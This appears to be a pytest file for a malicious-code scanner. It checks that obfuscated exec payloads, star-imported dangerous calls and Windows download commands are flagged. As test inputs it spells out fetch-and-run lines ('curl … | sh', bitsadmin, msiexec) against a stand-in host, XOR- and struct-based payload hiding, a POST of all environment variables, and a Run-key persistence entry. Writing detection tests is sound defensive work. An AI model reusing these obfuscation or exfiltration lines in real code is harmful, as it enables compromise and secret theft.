"""Text kept as numbers, tables and bytes of structures; names that come in by a star."""

from __future__ import annotations

import struct

import pytest

from tests.test_code_facts import found, init

PAYLOAD = b"import os\nos.system('curl -s https://a.example/i | sh')\n"
XORED = [byte ^ 0x5D for byte in PAYLOAD]
LETTERS = sorted(set(PAYLOAD.decode()))
PLACES = [LETTERS.index(letter) for letter in PAYLOAD.decode()]
SHORT = tuple(byte + 256 for byte in XORED)
HIDDEN = {
    "wide numbers, put together byte by byte": f"""
import array
table, key = array.array('H', {SHORT}), 0x5d
out = bytearray()
for number in table:
    out.append((number - 256) ^ key)
exec(compile(out.decode(), 'table', 'exec'))
""",
    "a structure": f"import struct\nexec(bytes(struct.unpack('{len(PAYLOAD)}B', {PAYLOAD!r})))\n",
    "parts of a structure": f"import struct\nexec(bytes(p[0] ^ 0x5d for p in struct.iter_unpack('B', {bytes(XORED)!r})))\n",
    "a view": f"exec(memoryview({PAYLOAD!r}[::-1]).tobytes()[::-1])\n",
}


@pytest.mark.parametrize("text", HIDDEN.values(), ids=HIDDEN)
def test_code_that_is_kept_as_something_else_is_seen(text: str) -> None:
    assert "MLS-C002" in found(init(text))


def test_code_that_is_looked_up_letter_by_letter_is_followed() -> None:
    text = f"table = {dict(enumerate(LETTERS))}\nexec(''.join(table[at] for at in {PLACES}))\n"
    assert found(init(text)) == {"MLS-C004"}


def test_tables_of_numbers_that_are_data_are_none() -> None:
    table = struct.pack("8H", *range(8))
    text = (
        f"import array, struct\nLOW = array.array('H', {SHORT[:9]})\nROWS = struct.unpack('8H', {table!r})\n"
        f"NAMES = {dict(enumerate(LETTERS))}\ndef name(at):\n    return NAMES[at % len(NAMES)]\n"
        "def put(rows):\n    out = bytearray()\n    for row in rows:\n        out.append(LOW[row] & 255)\n"
        "    return bytes(out)\n"
    )
    assert found(init(text)) == set()


STARRED = {
    "a program": "from subprocess import *\ncheck_call('curl https://a.example/i | sh', shell=True)\n",
    "a request": "from http.client import *\nfrom json import *\nimport os\n"
    "HTTPSConnection('a.example').request('POST', '/', dumps(dict(os.environ)))\n",
    "the registry": "from winreg import *\n"
    "key = CreateKeyEx(HKEY_CURRENT_USER, 'Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run')\n"
    "SetValueEx(key, 'x', 0, REG_SZ, 'c:/x.exe')\n",
    "the first of two that has it": "from os import *\nfrom math import *\nsystem('curl https://a.example/i | sh')\n",
}


@pytest.mark.parametrize("text", STARRED.values(), ids=STARRED)
def test_names_that_come_in_by_a_star_are_those_of_the_module(text: str) -> None:
    assert found(init(text))


def test_a_name_of_the_module_itself_is_not_one_of_a_star() -> None:
    text = "from os import *\ndef system(line):\n    return len(line)\nsystem('curl https://a.example/i | sh')\n"
    assert found(init(text)) == set()


@pytest.mark.parametrize(
    "line",
    [
        "bitsadmin /transfer j https://a.example/o.exe c:\\\\x\\\\o.exe & c:\\\\x\\\\o.exe",
        "msiexec /q /i https://a.example/o.msi",
    ],
)
def test_downloads_that_windows_brings_are_downloads(line: str) -> None:
    assert found(init(f"import os\nos.system('{line}')\n")) & {"MLS-C004"}
